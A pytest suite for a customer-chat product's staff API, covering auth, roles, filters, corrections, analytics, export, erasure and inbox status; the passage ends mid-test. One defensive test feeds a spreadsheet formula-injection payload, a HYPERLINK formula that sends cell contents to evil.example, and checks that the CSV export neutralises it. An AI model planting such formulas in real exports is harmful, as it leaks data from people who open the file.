"""The staff API through real HTTP against a real database: auth, roles, filters, corrections, analytics, export."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import time
from datetime import UTC, datetime, timedelta

import httpx
import pytest
from conftest import Server, base_env, run_cli

from app.config import Settings
from app.staff.auth import create_token, revoke_token
from app.store.db import make_engine, make_sessionmaker
from app.store.models import Conversation, Touchpoint
from app.store.service import ExchangeRecord, record_exchange


def make_tokens(data_dir) -> dict[str, str]:
    """viewer, editor, admin and a revoked token, created in the server's database."""
    engine = make_engine(Settings(data_dir=data_dir))
    tokens = {}
    with make_sessionmaker(engine)() as session:
        for role in ("viewer", "editor", "admin"):
            tokens[role] = create_token(session=session, name=f"{role}@lumio.example", role=role)[1]
        row, tokens["revoked"] = create_token(session=session, name="gone@lumio.example", role="admin")
        revoke_token(session=session, token_id=row.id)
    engine.dispose()
    return tokens


@pytest.fixture(scope="module")
def staff(make_data_dir):
    data_dir = make_data_dir()
    tokens = make_tokens(data_dir)
    server = Server(data_dir)
    yield server, tokens
    server.stop()


def api(server, token, method, path, **kwargs) -> httpx.Response:
    headers = {"authorization": f"Bearer {token}"} if token else {}
    return httpx.request(method, f"{server.url}/v1/staff{path}", headers=headers, timeout=30, **kwargs)


def chat(server, message, **body) -> dict:
    response = httpx.post(f"{server.url}/v1/chat", json={"message": message, **body}, timeout=30)
    response.raise_for_status()
    return response.json()


def test_every_staff_endpoint_needs_a_valid_token(staff):
    server, tokens = staff
    paths = [
        ("GET", "/conversations"),
        ("GET", "/conversations/abcdefgh1234"),
        ("GET", "/analytics"),
        ("GET", "/analytics/gaps"),
        ("GET", "/export"),
        ("GET", "/answers"),
        ("DELETE", "/visitors/someone-1234"),
        ("PUT", "/touchpoints/abcdefgh1234/stage"),
    ]
    for method, path in paths:
        for token in (None, "jgs_not-a-real-token", tokens["revoked"]):
            response = api(server, token, method, path)
            assert response.status_code == 401, (method, path, token, response.text)
            assert response.headers["www-authenticate"] == "Bearer"
    assert api(server, tokens["viewer"], "GET", "/me").json() == {"name": "viewer@lumio.example", "role": "viewer"}


def test_wrong_staff_tokens_are_throttled_per_address(make_data_dir):
    data_dir = make_data_dir()
    tokens = make_tokens(data_dir)
    server = Server(data_dir, JOURNEY_STAFF_AUTH_LIMIT="3/60")
    try:
        assert api(server, tokens["viewer"], "GET", "/me").status_code == 200
        for n in range(3):
            assert api(server, f"jgs_guess-{n}", "GET", "/me").status_code == 401
        for token in ("jgs_guess-4", tokens["viewer"]):  # no token is checked from this address for a while
            refused = api(server, token, "GET", "/me")
            assert refused.status_code == 429 and int(refused.headers["retry-after"]) >= 1, refused.text
    finally:
        server.stop()


def test_roles_limit_actions(staff):
    server, tokens = staff
    turn = chat(server, "How much does the pro plan cost?")
    put = {"json": {"stage": "consideration"}}
    refused = api(server, tokens["viewer"], "PUT", f"/touchpoints/{turn['message_id']}/stage", **put)
    assert refused.status_code == 403 and "needs the editor role" in refused.json()["detail"]
    assert api(server, tokens["viewer"], "GET", "/export").status_code == 403
    assert api(server, tokens["editor"], "DELETE", f"/visitors/{turn['visitor_id']}").status_code == 403
    assert api(server, tokens["viewer"], "GET", f"/conversations/{turn['conversation_id']}").status_code == 200


def test_visitor_endpoints_cannot_reach_staff_data(staff):
    server, _ = staff
    turn = chat(server, "How much does the pro plan cost?")
    body = {"visitor_id": "another-visitor-1", "message": "hi"}
    assert (
        httpx.post(f"{server.url}/v1/chat", json={**body, "conversation_id": turn["conversation_id"]}).status_code
        == 404
    )
    assert httpx.get(f"{server.url}/v1/staff/conversations/{turn['conversation_id']}").status_code == 401


def test_filters_and_paging(staff):
    server, tokens = staff
    marker = "zebrafish"
    pricing = chat(server, f"How much does the pro plan cost for my {marker} salon?")
    support = chat(server, "my calendar sync stopped working, bookings are missing")
    httpx.post(
        f"{server.url}/v1/conversations/{support['conversation_id']}/handoff",
        json={"visitor_id": support["visitor_id"], "email": "ana@example.com"},
    ).raise_for_status()
    unhappy = chat(server, "Can I cancel anytime?")
    httpx.post(
        f"{server.url}/v1/conversations/{unhappy['conversation_id']}/feedback",
        json={"visitor_id": unhappy["visitor_id"], "message_id": unhappy["message_id"], "rating": "down"},
    ).raise_for_status()
    unknown = chat(server, "What is the airspeed velocity of an unladen swallow?")

    def ids(**params) -> set[str]:
        response = api(server, tokens["viewer"], "GET", "/conversations", params={"limit": 200, **params})
        assert response.status_code == 200, response.text
        return {c["id"] for c in response.json()["items"]}

    assert pricing["conversation_id"] in ids(stage="decision")
    assert support["conversation_id"] not in ids(stage="decision")
    assert ids(handoff="true") >= {support["conversation_id"]}
    assert pricing["conversation_id"] not in ids(handoff="true")
    assert unhappy["conversation_id"] in ids(thumbs_down="true")
    assert support["conversation_id"] not in ids(thumbs_down="true")
    assert unknown["conversation_id"] in ids(low_retrieval="true")
    assert pricing["conversation_id"] not in ids(low_retrieval="true")
    assert ids(q=marker) == {pricing["conversation_id"]}
    future = (datetime.now(UTC) + timedelta(days=1)).isoformat()
    assert ids(since=future) == set()
    assert pricing["conversation_id"] in ids(until=future)
    api(server, tokens["editor"], "PUT", f"/conversations/{pricing['conversation_id']}/review", json={"reviewed": True})
    assert pricing["conversation_id"] not in ids(unreviewed="true")
    assert support["conversation_id"] in ids(unreviewed="true")
    page = api(server, tokens["viewer"], "GET", "/conversations", params={"limit": 2, "offset": 1}).json()
    assert page["total"] >= 4 and len(page["items"]) == 2
    listed = api(server, tokens["viewer"], "GET", "/conversations", params={"q": marker}).json()["items"][0]
    assert listed["first_question"].startswith("How much does the pro plan cost") and listed["reviewed_at"]
    bad = api(server, tokens["viewer"], "GET", "/conversations", params={"since": "yesterday"})
    assert bad.status_code == 422 and "since" in bad.text
    huge = api(server, tokens["viewer"], "GET", "/conversations", params={"offset": 2**63})  # found by schemathesis
    assert huge.status_code == 422 and "offset" in huge.text


def test_transcript_shows_every_turn(staff):
    server, tokens = staff
    page = {"url": "https://www.lumio.example/pricing", "title": "Pricing"}
    first = chat(server, "How much does the pro plan cost?", page=page)
    ids = {"conversation_id": first["conversation_id"], "visitor_id": first["visitor_id"]}
    chat(server, "ok thanks", **ids)
    httpx.post(
        f"{server.url}/v1/conversations/{first['conversation_id']}/feedback",
        json={"visitor_id": first["visitor_id"], "message_id": first["message_id"], "rating": "up"},
    ).raise_for_status()
    data = api(server, tokens["viewer"], "GET", f"/conversations/{first['conversation_id']}").json()
    assert [t["question"] for t in data["turns"]] == ["How much does the pro plan cost?", "ok thanks"]
    turn = data["turns"][0]
    assert turn["stage"]["name"] == "decision" and turn["stage"]["evidence"] and turn["stage"]["confidence"] > 0
    assert turn["sources"][0]["id"].startswith("pricing/") and turn["latency_ms"] >= 0
    assert turn["mode"] == "offline" and turn["model"] == "offline-composer" and turn["outcome"] == "ok"
    assert turn["feedback"] == {"rating": "up", "comment": None}
    assert turn["page"]["url"] == page["url"]
    assert any(e["type"] == "kept_previous" for e in data["turns"][1]["stage"]["evidence"])
    assert [e["kind"] for e in data["events"]] == ["feedback"]
    assert api(server, tokens["viewer"], "GET", "/conversations/nosuchconversation").status_code == 404


def test_correction_teaches_the_detector_and_survives_restart(make_data_dir):
    data_dir = make_data_dir()
    tokens = make_tokens(data_dir)
    server = Server(data_dir)
    message = "the purple widget on my dashboard blinks twice"
    try:
        first = chat(server, message)
        target = "advocacy" if first["stage"]["name"] != "advocacy" else "awareness"
        path = f"/touchpoints/{first['message_id']}/stage"
        bad = api(server, tokens["editor"], "PUT", path, json={"stage": "nirvana"})
        assert bad.status_code == 422 and "stage must be one of" in bad.json()["error"]
        ok = api(server, tokens["editor"], "PUT", path, json={"stage": target})
        assert ok.status_code == 200, ok.text
        assert chat(server, message)["stage"]["name"] == target, "the correction is used without a restart"
        transcript = api(server, tokens["viewer"], "GET", f"/conversations/{first['conversation_id']}").json()
        assert transcript["turns"][0]["annotation"]["corrected_stage"] == target
    finally:
        server.stop()
    restarted = Server(data_dir)
    try:
        assert chat(restarted, message)["stage"]["name"] == target, "the correction is kept in the database"
    finally:
        restarted.stop()


def test_annotations_tags_and_notes(staff):
    server, tokens = staff
    turn = chat(server, "Can I pay by invoice?")
    path = f"/touchpoints/{turn['message_id']}/annotation"
    saved = api(server, tokens["editor"], "PUT", path, json={"tags": ["billing", "billing", " invoice "], "note": "ok"})
    assert saved.json() == {"touchpoint_id": turn["message_id"], "tags": ["billing", "invoice"], "note": "ok"}
    api(server, tokens["editor"], "PUT", path, json={"note": "better answer needed"})
    annotation = api(server, tokens["viewer"], "GET", f"/conversations/{turn['conversation_id']}").json()["turns"][0][
        "annotation"
    ]
    assert annotation["tags"] == ["billing", "invoice"] and annotation["note"] == "better answer needed"
    assert annotation["updated_by"] == "editor@lumio.example"
    assert api(server, tokens["editor"], "PUT", path, json={"tags": "billing"}).status_code == 422


def test_curated_answer_is_used_for_close_questions(staff):
    server, tokens = staff
    asked = chat(server, "Do you have a student discount?")
    written = api(
        server,
        tokens["editor"],
        "POST",
        "/answers",
        json={
            "question": "Do you have a student discount?",
            "answer": "Students get 50% off Starter. [staff]",
            "touchpoint_id": asked["message_id"],
        },
    )
    assert written.status_code == 201, written.text
    again = chat(server, "do you have a discount for students")
    assert again["reply"] == "Students get 50% off Starter. [staff]"
    assert again["mode"] == "curated" and again["model"] == "staff-answer"
    row = server.touchpoints(id=again["message_id"])[0]
    assert row["mode"] == "curated" and json.loads(row["data"])["curated_answer_id"] == written.json()["id"]
    assert chat(server, "How do I connect Google Calendar?")["mode"] == "offline", "unrelated questions unaffected"
    assert api(server, tokens["editor"], "DELETE", f"/answers/{written.json()['id']}").status_code == 204
    assert chat(server, "do you have a discount for students")["mode"] == "offline"


def test_questions_answered_by_a_curated_answer_leave_the_knowledge_gaps(staff):
    server, tokens = staff
    question = "Do you sponsor local chess tournaments for kids?"
    chat(server, question)

    def gap_questions() -> set[str]:
        groups = api(server, tokens["viewer"], "GET", "/analytics/gaps").json()["groups"]
        return {q for g in groups for q in g["examples"]}

    assert question in gap_questions(), "an unanswered question is a gap"
    answer = {"question": question, "answer": "Yes: ask sales about our chess sponsorship. [staff]"}
    assert api(server, tokens["editor"], "POST", "/answers", json=answer).status_code == 201
    assert chat(server, "do you sponsor local chess tournaments for kids")["mode"] == "curated"
    assert not {q for q in gap_questions() if "chess" in q.lower()}, "staff answered it: no longer a gap"


def test_export_streams_filtered_csv_and_jsonl(staff):
    server, tokens = staff
    turn = chat(server, "How much is Business for 40 staff?")
    params = {"stage": "decision", "format": "jsonl"}
    response = api(server, tokens["editor"], "GET", "/export", params=params)
    assert response.status_code == 200 and response.headers["content-type"].startswith("application/x-ndjson")
    rows = [json.loads(line) for line in response.text.splitlines()]
    assert rows and {r["conversation_id"] for r in rows} >= {turn["conversation_id"]}
    conversation_stages = {
        c["id"]: c["stage"]
        for c in api(server, tokens["viewer"], "GET", "/conversations", params={"limit": 200}).json()["items"]
    }
    assert all(conversation_stages.get(r["conversation_id"], "decision") == "decision" for r in rows)
    csv_response = api(server, tokens["editor"], "GET", "/export", params={"format": "csv"})
    table = list(csv.DictReader(io.StringIO(csv_response.text)))
    assert csv_response.headers["content-type"].startswith("text/csv")
    mine = [r for r in table if r["id"] == turn["message_id"]][0]
    assert mine["question"] == "How much is Business for 40 staff?" and json.loads(mine["sources"])
    assert api(server, tokens["editor"], "GET", "/export", params={"format": "xml"}).status_code == 422


def test_csv_export_neutralises_formula_cells(staff):
    server, tokens = staff
    message = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
    turn = chat(server, message, visitor_id="-23-formula-visitor")
    table = list(csv.DictReader(io.StringIO(api(server, tokens["editor"], "GET", "/export?format=csv").text)))
    mine = [r for r in table if r["id"] == turn["message_id"]][0]
    assert mine["question"] == "'" + message and mine["visitor_id"] == "'-23-formula-visitor"
    lines = api(server, tokens["editor"], "GET", "/export?format=jsonl").text.splitlines()
    assert [json.loads(x) for x in lines if turn["message_id"] in x][0]["question"] == message, "JSON lines unchanged"


def _failed_turn(data_dir, *, message_id, conversation_id, visitor_id, question, at) -> None:
    """Store a turn as /v1/chat records one that failed (knowledge base unreadable): no stage, no sources."""
    engine = make_engine(Settings(data_dir=data_dir))
    failed = ExchangeRecord(
        id=message_id,
        conversation_id=conversation_id,
        visitor_id=visitor_id,
        question=question,
        reply="",
        stage={},
        sources=None,
        suggestions=[],
        page=None,
        identity=None,
        retrieval_score=None,
        mode="offline",
        model=None,
        latency_ms=5,
        outcome="server_error",
        error="InternalError: Error finding id",
        created_at=at,
    )
    with make_sessionmaker(engine)() as session:
        record_exchange(session=session, record=failed)
    engine.dispose()


def test_staff_views_tolerate_failed_turns_without_stage_or_sources(staff):
    server, tokens = staff
    first = chat(server, "How much does the pro plan cost?")
    now = datetime.now(UTC)
    ids = {"conversation_id": first["conversation_id"], "visitor_id": first["visitor_id"]}
    _failed_turn(server.data_dir, message_id="failed-turn-0001", question="and for 40 staff?", at=now, **ids)
    chat(server, "and what about yearly billing?", **ids)
    alone = {"conversation_id": "failed-only-0001", "visitor_id": "failed-visitor-01"}
    _failed_turn(server.data_dir, message_id="failed-turn-0002", question="hello?", at=now, **alone)

    analytics = api(server, tokens["viewer"], "GET", "/analytics")
    assert analytics.status_code == 200, analytics.text
    assert all(t["stage"] for t in analytics.json()["time_in_stage"])
    assert api(server, tokens["viewer"], "GET", "/analytics/gaps").status_code == 200
    listed = api(server, tokens["viewer"], "GET", "/conversations", params={"limit": 200})
    assert {c["id"]: c["stage"] for c in listed.json()["items"]}["failed-only-0001"] is None
    for conversation_id in (first["conversation_id"], "failed-only-0001"):
        transcript = api(server, tokens["viewer"], "GET", f"/conversations/{conversation_id}")
        assert transcript.status_code == 200, transcript.text
        failed = [t for t in transcript.json()["turns"] if t["outcome"] == "server_error"][0]
        assert failed["stage"]["name"] is None and failed["sources"] == []
    for fmt in ("csv", "jsonl"):
        exported = api(server, tokens["editor"], "GET", "/export", params={"format": fmt})
        assert exported.status_code == 200 and "failed-turn-0002" in exported.text


def test_erasure_removes_every_trace(staff):
    server, tokens = staff
    first = chat(server, "the orange gizmo is wobbling on my screen, is it iso 27001 certified")
    ids = {"conversation_id": first["conversation_id"], "visitor_id": first["visitor_id"]}
    chat(server, "still wobbling, can I pay in dogecoin", **ids)  # two turns the documents don't cover
    api(server, tokens["editor"], "PUT", f"/touchpoints/{first['message_id']}/stage", json={"stage": "support"})
    erased = api(server, tokens["admin"], "DELETE", f"/visitors/{first['visitor_id']}")
    assert erased.status_code == 200
    # two exchanges, and the handoff the bot asked for after two turns it could not answer (its live rows go too)
    assert erased.json()["erased"]["touchpoints"] == 3 and erased.json()["erased"]["stage_examples"] == 1
    assert api(server, tokens["viewer"], "GET", f"/conversations/{first['conversation_id']}").status_code == 404
    con = sqlite3.connect(server.data_dir / "journey.db")
    for table, column in [
        ("touchpoints", "visitor_id"),
        ("conversations", "visitor_id"),
        ("stage_examples", "visitor_id"),
        ("handoff_requests", "visitor_id"),
    ]:
        assert (
            con.execute(f"SELECT count(*) FROM {table} WHERE {column} = ?", (first["visitor_id"],)).fetchone()[0] == 0
        )
    dump = "\n".join(con.iterdump())
    con.close()
    assert "orange gizmo" not in dump and first["visitor_id"] not in dump


def test_token_cli(tmp_path):
    env = base_env(tmp_path)
    created = run_cli("staff", "create-token", "carla@lumio.example", "--role", "editor", env=env)
    assert created.returncode == 0, created.stderr
    token = created.stdout.strip().splitlines()[-1]
    assert token.startswith("jgs_") and len(token) > 40
    listed = run_cli("staff", "tokens", env=env).stdout
    assert "carla@lumio.example" in listed and token not in listed
    con = sqlite3.connect(tmp_path / "journey.db")
    assert token not in "\n".join(con.iterdump())
    con.close()
    bad = run_cli("staff", "create-token", "x", "--role", "boss", env=env)
    assert bad.returncode == 2 and "role must be one of viewer, editor, admin" in bad.stderr
    assert "revoked token 1" in run_cli("staff", "revoke-token", "1", env=env).stdout


# -- analytics on a known fixture ------------------------------------------------------------------

T0 = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)


def _fixture_rows(session) -> None:
    """Three visitors with known journeys, times and events."""

    def convo(cid, visitor, turns, events=()):
        session.add(
            Conversation(
                id=cid,
                visitor_id=visitor,
                created_at=turns[0][0],
                updated_at=turns[-1][0],
                stage=turns[-1][1],
                turns=len(turns) + len(events),
            )
        )
        previous = None
        for n, (at, stage, question, score) in enumerate(turns, start=1):
            session.add(
                Touchpoint(
                    id=f"{cid}-t{n}",
                    conversation_id=cid,
                    visitor_id=visitor,
                    turn=n,
                    kind="exchange",
                    created_at=at,
                    stage=stage,
                    stage_confidence=0.9,
                    previous_stage=previous,
                    stage_changed=previous is not None and previous != stage,
                    question=question,
                    reply="r",
                    retrieval_score=score,
                    mode="offline",
                    outcome="ok",
                    latency_ms=10,
                )
            )
            previous = stage
        for n, (at, kind, data) in enumerate(events, start=len(turns) + 1):
            session.add(
                Touchpoint(
                    id=f"{cid}-e{n}",
                    conversation_id=cid,
                    visitor_id=visitor,
                    turn=n,
                    kind=kind,
                    created_at=at,
                    stage=previous,
                    data=data,
                )
            )

    minute = timedelta(minutes=1)
    convo(
        "conv-aaaa",
        "visitor-a",
        [
            (T0, "awareness", "what is lumio", 0.8),
            (T0 + 2 * minute, "awareness", "who is it for", 0.7),
            (T0 + 5 * minute, "decision", "how much is pro", 0.8),
        ],
    )
    convo(
        "conv-bbbb",
        "visitor-b",
        [
            (T0 + timedelta(days=1), "support", "my widget spins forever", 0.2),
            (T0 + timedelta(days=1) + 3 * minute, "support", "the widget keeps spinning", 0.25),
        ],
        events=[
            (T0 + timedelta(days=1, minutes=4), "handoff", {"email": "b@example.com"}),
            (T0 + timedelta(days=1, minutes=5), "feedback", {"rating": "up", "message_id": "conv-bbbb-t2"}),
            (T0 + timedelta(days=1, minutes=6), "feedback", {"rating": "up", "message_id": "conv-bbbb-t2"}),  # again
            (T0 + timedelta(days=1, minutes=9), "status", {"status": "resolved", "previous": "open", "by": "ann"}),
        ],
    )
    convo(
        "conv-cccc",
        "visitor-c",
        [
            (T0 + timedelta(days=1), "decision", "is there a discount", 0.9),
        ],
        events=[(T0 + timedelta(days=1, minutes=1), "feedback", {"rating": "down", "message_id": "conv-cccc-t1"})],
    )
    session.commit()


@pytest.fixture(scope="module")
def analytics_server(make_data_dir):
    data_dir = make_data_dir()
    engine = make_engine(Settings(data_dir=data_dir))
    with make_sessionmaker(engine)() as session:
        _fixture_rows(session)
    engine.dispose()
    tokens = make_tokens(data_dir)
    server = Server(data_dir)
    yield server, tokens
    server.stop()


def test_analytics_figures_on_known_fixture(analytics_server):
    server, tokens = analytics_server
    data = api(server, tokens["viewer"], "GET", "/analytics").json()
    funnel = {f["stage"]: f for f in data["funnel"]}
    assert funnel["awareness"] == {"stage": "awareness", "visitors": 1, "reached": 3}
    assert funnel["decision"] == {"stage": "decision", "visitors": 2, "reached": 3}
    assert funnel["support"]["visitors"] == 1 and funnel["support"]["reached"] == 1
    assert funnel["renewal"]["reached"] == 0
    assert data["transitions"] == [{"from": "awareness", "to": "decision", "count": 1}]
    time_in = {t["stage"]: t for t in data["time_in_stage"]}  # first to last touchpoint of the stage
    assert time_in["awareness"]["mean_seconds"] == 120.0, "two turns two minutes apart"
    assert time_in["support"]["mean_seconds"] == 360.0, "to the last feedback, not to the status change"
    assert time_in["decision"] == {
        "stage": "decision",
        "spans": 1,
        "single": 1,
        "mean_seconds": 60.0,
        "median_seconds": 60.0,
    }, "the one-turn decision of conv-aaaa has no duration; conv-cccc's feedback came a minute after the turn"
    assert data["csat"]["by_stage"] == [
        {"stage": "decision", "up": 0, "down": 1, "csat": 0.0},
        {"stage": "support", "up": 1, "down": 0, "csat": 1.0},
    ], "a reply rated twice counts once"
    assert data["csat"]["by_day"] == [{"day": "2026-03-03", "up": 1, "down": 1, "csat": 0.5}]
    assert data["csat"]["overall"] == {"scope": "all", "up": 1, "down": 1, "csat": 0.5}
    daily = {(d["day"], d["stage"]): d["count"] for d in data["daily"]}
    assert daily == {
        ("2026-03-02", "awareness"): 2,
        ("2026-03-02", "decision"): 1,
        ("2026-03-03", "support"): 2,
        ("2026-03-03", "decision"): 1,
    }
    rates = {r["stage"]: r for r in data["rates"]}
    assert rates["support"]["handoff_rate"] == 1.0 and rates["support"]["deflection"] == 0.0
    assert rates["decision"]["conversations"] == 2 and rates["decision"]["deflection"] == 1.0
    assert rates["decision"]["thumbs_down"] == 1 and rates["decision"]["thumbs_down_rate"] == 0.5
    one_day = api(
        server,
        tokens["viewer"],
        "GET",
        "/analytics",
        params={"since": "2026-03-03T00:00:00Z", "until": "2026-03-04T00:00:00+00:00"},
    ).json()
    assert {f["stage"]: f["visitors"] for f in one_day["funnel"]}["awareness"] == 0
    assert one_day["transitions"] == []
    assert one_day["csat"]["by_day"] == [{"day": "2026-03-03", "up": 1, "down": 1, "csat": 0.5}]
    day_one = api(server, tokens["viewer"], "GET", "/analytics", params={"until": "2026-03-03T00:00:00Z"}).json()
    nothing = {"scope": "all", "up": 0, "down": 0, "csat": None}
    assert day_one["csat"] == {"overall": nothing, "by_stage": [], "by_day": []}


def test_knowledge_gaps_group_similar_questions(analytics_server):
    server, tokens = analytics_server
    groups = api(server, tokens["viewer"], "GET", "/analytics/gaps").json()["groups"]
    assert groups[0]["stage"] == "support" and groups[0]["count"] == 2
    assert set(groups[0]["examples"]) == {"my widget spins forever", "the widget keeps spinning"}
    assert groups[0]["reasons"] == {"weak_retrieval": 2, "handoff": 1}
    decision = [g for g in groups if g["stage"] == "decision"]
    assert decision == [
        {
            "stage": "decision",
            "question": "is there a discount",
            "count": 1,
            "examples": ["is there a discount"],
            "reasons": {"thumbs_down": 1},
        }
    ]


def test_erasure_includes_pending_webhook_events(make_data_dir):
    from conftest import free_port

    data_dir = make_data_dir()
    tokens = make_tokens(data_dir)
    hook = f"http://127.0.0.1:{free_port()}/hook"
    server = Server(data_dir, JOURNEY_WEBHOOK_URLS=hook, JOURNEY_WEBHOOK_SECRET="whsec-test-secret-0123456789")
    try:
        turn = chat(server, "the teal sprocket keeps rattling")
        con = sqlite3.connect(data_dir / "journey.db")
        count = "SELECT count(*) FROM webhook_outbox WHERE visitor_id = ?"
        tables = {r[0] for r in con.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
        table = "webhook_outbox" if "webhook_outbox" in tables else next(t for t in tables if "outbox" in t)
        count = count.replace("webhook_outbox", table)
        assert con.execute(count, (turn["visitor_id"],)).fetchone()[0] >= 1, "an event waits for the receiver"
        erased = api(server, tokens["admin"], "DELETE", f"/visitors/{turn['visitor_id']}").json()["erased"]
        assert erased["webhook_events"] >= 1
        assert con.execute(count, (turn["visitor_id"],)).fetchone()[0] == 0
        con.close()
    finally:
        server.stop()


def test_a_date_bound_that_is_a_number_is_refused_not_read_as_1970(staff):
    server, tokens = staff
    for path in ("/conversations", "/analytics", "/analytics/gaps", "/export"):
        for bound in ("since", "until"):
            response = api(server, tokens["editor"], "GET", path, params={bound: "0.5"})
            assert response.status_code == 422, (path, response.text)
            assert "a date like 2026-01-31" in response.json()["error"], response.text
    day = api(server, tokens["viewer"], "GET", "/conversations", params={"since": "2026-01-31"})
    assert day.status_code == 200, day.text


# ---- inbox: status and assignee (docs/inbox.md) ----


def _status(server, token, conversation_id, **body) -> httpx.Response:
    return api(server, token, "PUT", f"/conversations/{conversation_id}/status", json=body)


def _ids(server, token, **params) -> set[str]:
    response = api(server, token, "GET", "/conversations", params={"limit": 200, **params})
    assert response.status_code == 200, response.text
    return {c["id"] for c in response.json()["items"]}


def test_status_and_assignee_are_kept_filtered_exported_and_recorded_as_events(staff):
    server, tokens = staff
    waiting = chat(server, "Do you have an app for iPhone?")["conversation_id"]
    other = chat(server, "How do reminders work?")["conversation_id"]

    response = _status(server, tokens["editor"], waiting, status="pending")
    assert response.status_code == 200, response.text
    assert response.json() == {"conversation_id": waiting, "status": "pending", "until": None, "assignee": None}
    assert waiting in _ids(server, tokens["viewer"], status="pending")
    assert other not in _ids(server, tokens["viewer"], status="pending")
    assert other in _ids(server, tokens["viewer"], status="open")
    assert waiting not in _ids(server, tokens["viewer"], status="open")

    owner = "editor@lumio.example"
    given = api(server, tokens["admin"], "PUT", f"/conversations/{waiting}/assignee", json={"assignee": owner})
    assert given.status_code == 200 and given.json()["assignee"] == owner, given.text
    assert waiting in _ids(server, tokens["viewer"], assignee=owner)
    assert waiting in _ids(server, tokens["editor"], assignee="me")
    assert waiting not in _ids(server, tokens["admin"], assignee="me")
    assert waiting not in _ids(server, tokens["viewer"], assignee="none") and other in _ids(
        server, tokens["viewer"], assignee="none"
    )
    assert _ids(server, tokens["viewer"], status="pending", assignee=owner) >= {waiting}
    listed = api(server, tokens["viewer"], "GET", "/conversations", params={"status": "pending", "limit": 200})
    row = next(c for c in listed.json()["items"] if c["id"] == waiting)
    assert (row["status"], row["assignee"]) == ("pending", owner)

    transcript = api(server, tokens["viewer"], "GET", f"/conversations/{waiting}").json()
    assert (transcript["status"], transcript["assignee"]) == ("pending", owner)
    events = [e for e in transcript["events"] if e["kind"] in ("status", "assignee")]
    assert [(e["kind"], e["data"]["by"]) for e in events] == [("status", owner), ("assignee", "admin@lumio.example")]
    assert events[0]["data"]["previous"] == "open" and events[0]["created_at"]
    assert events[1]["data"] == {"assignee": owner, "previous": None, "by": "admin@lumio.example"}

    exported = api(server, tokens["editor"], "GET", "/export", params={"status": "pending", "format": "jsonl"})
    rows = [json.loads(line) for line in exported.text.splitlines()]
    assert {r["conversation_id"] for r in rows} >= {waiting} and other not in {r["conversation_id"] for r in rows}
    assert [r["data"]["status"] for r in rows if r["conversation_id"] == waiting and r["kind"] == "status"] == [
        "pending"
    ]
    visitor_id = transcript["visitor_id"]
    seen = httpx.get(f"{server.url}/v1/conversations/{waiting}", params={"visitor_id": visitor_id}, timeout=30)
    assert seen.status_code == 200 and len(seen.json()["turns"]) == 1, seen.text
    assert "pending" not in seen.text and owner not in seen.text, "visitors never see status or assignee"
    unassigned = api(server, tokens["editor"], "PUT", f"/conversations/{waiting}/assignee", json={"assignee": None})
    assert unassigned.json()["assignee"] is None and waiting in _ids(server, tokens["viewer"], assignee="none")


def test_status_and_assignee_need_an_editor(staff):
    server, tokens = staff
    conversation = chat(server, "Is there a free trial?")["conversation_id"]
    assert _status(server, tokens["viewer"], conversation, status="resolved").status_code == 403
    body = {"assignee": "viewer@lumio.example"}
    assert api(server, tokens["viewer"], "PUT", f"/conversations/{conversation}/assignee", json=body).status_code == 403
    assert _status(server, None, conversation, status="resolved").status_code == 401
    assert conversation in _ids(server, tokens["viewer"], status="open")


def test_bad_status_or_assignee_is_a_clear_4xx_and_changes_nothing(staff):
    server, tokens = staff
    conversation = chat(server, "What is Lumio?")["conversation_id"]
    past = (datetime.now(UTC) - timedelta(minutes=1)).isoformat()
    future = (datetime.now(UTC) + timedelta(hours=1)).isoformat()
    cases = [
        ({"status": "closed"}, "status"),
        ({"status": "snoozed"}, "needs `until`"),
        ({"status": "snoozed", "until": past}, "must be in the future"),
        ({"status": "snoozed", "until": "tomorrow"}, "until"),
        ({"status": "resolved", "until": future}, "only for status snoozed"),
        ({}, "status"),
    ]
    for body, message in cases:
        response = _status(server, tokens["editor"], conversation, **body)
        assert response.status_code == 422 and message in response.text, (body, response.text)
    for assignee, message in [("nobody@lumio.example", "no staff member named"), ("gone@lumio.example", "active")]:
        response = api(
            server, tokens["editor"], "PUT", f"/conversations/{conversation}/assignee", json={"assignee": assignee}
        )
        assert response.status_code == 422 and message in response.text, response.text
    assert _status(server, tokens["editor"], "no-such-conversation", status="resolved").status_code == 404
    bad = api(server, tokens["viewer"], "GET", "/conversations", params={"status": "closed"})
    assert bad.status_code == 422 and "status" in bad.text
    transcript = api(server, tokens["viewer"], "GET", f"/conversations/{conversation}").json()
    assert (transcript["status"], transcript["assignee"]) == ("open", None)
    assert [e for e in transcript["events"] if e["kind"] in ("status", "assignee")] == []


def test_visitor_message_reopens_a_resolved_conversation_and_a_snooze_ends_on_time(staff):
    server, tokens = staff
    first = chat(server, "How do I connect Google Calendar?")
    conversation = first["conversation_id"]
    assert _status(server, tokens["editor"], conversation, status="resolved").status_code == 200
    assert conversation in _ids(server, tokens["viewer"], status="resolved")
    chat(server, "And Outlook?", conversation_id=conversation, visitor_id=first["visitor_id"])
    transcript = api(server, tokens["viewer"], "GET", f"/conversations/{conversation}").json()
    assert transcript["status"] == "open" and conversation in _ids(server, tokens["viewer"], status="open")
    reopened = [e["data"] for e in transcript["events"] if e["kind"] == "status"][-1]
    assert reopened == {"status": "open", "previous": "resolved", "until": None, "by": "visitor"}

    until = datetime.now(UTC) + timedelta(seconds=1.5)
    snoozed = _status(server, tokens["editor"], conversation, status="snoozed", until=until.isoformat())
    assert snoozed.status_code == 200 and snoozed.json()["status"] == "snoozed", snoozed.text
    assert datetime.fromisoformat(snoozed.json()["until"]) == until
    assert conversation in _ids(server, tokens["viewer"], status="snoozed")
    assert conversation not in _ids(server, tokens["viewer"], status="open")
    time.sleep(max(0.0, (until - datetime.now(UTC)).total_seconds()) + 0.2)
    assert conversation in _ids(server, tokens["viewer"], status="open")
    assert conversation not in _ids(server, tokens["viewer"], status="snoozed")
    transcript = api(server, tokens["viewer"], "GET", f"/conversations/{conversation}").json()
    assert (transcript["status"], transcript["until"]) == ("open", None)


def test_turn_count_excludes_feedback_handoff_and_status_rows(staff):
    server, tokens = staff
    first = chat(server, "How do I add a second staff calendar?")
    ids = {"conversation_id": first["conversation_id"], "visitor_id": first["visitor_id"]}
    chat(server, "And a third one?", **ids)
    vote = {"visitor_id": first["visitor_id"], "message_id": first["message_id"], "rating": "up"}
    httpx.post(f"{server.url}/v1/conversations/{first['conversation_id']}/feedback", json=vote).raise_for_status()
    handoff = {"visitor_id": first["visitor_id"], "email": "turns@example.com"}
